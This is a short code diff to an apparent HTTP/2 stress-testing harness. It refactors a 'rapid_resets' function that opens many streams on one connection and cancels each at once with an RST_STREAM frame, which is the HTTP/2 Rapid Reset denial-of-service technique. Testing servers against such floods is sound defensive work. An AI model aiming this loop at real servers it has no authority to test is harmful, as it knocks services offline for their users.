@@ -7,13 +7,13 @@ from hyperframe.frame import (
     GoAwayFrame,
     HeadersFrame,
     PingFrame,
-    RstStreamFrame,
     SettingsFrame,
     WindowUpdateFrame,
 )
 
 from trials.peers.attack import Effort, Place
-from trials.peers.raw import LARGEST_WINDOW, PREFACE, Peer
+from trials.peers.frames import LARGEST_WINDOW, PREFACE, reset
+from trials.peers.raw import Peer
 
 AT_A_TIME = 100  # frames
 STREAMS = 20_000  # of rapid resets on one connection
@@ -152,8 +152,7 @@ def rapid_resets(place: Place, effort: Effort) -> int:
     while effort.remaining:
         with Peer.of(place) as peer:
             for stream in range(1, 2 * most, 2):
-                reset = RstStreamFrame(stream, error_code=8).serialize()
-                if not peer.send(peer.headers(stream) + reset):
+                if not peer.send(peer.headers(stream) + reset(stream)):
                     break
                 tries += 1
                 if stream % 512 == 1:
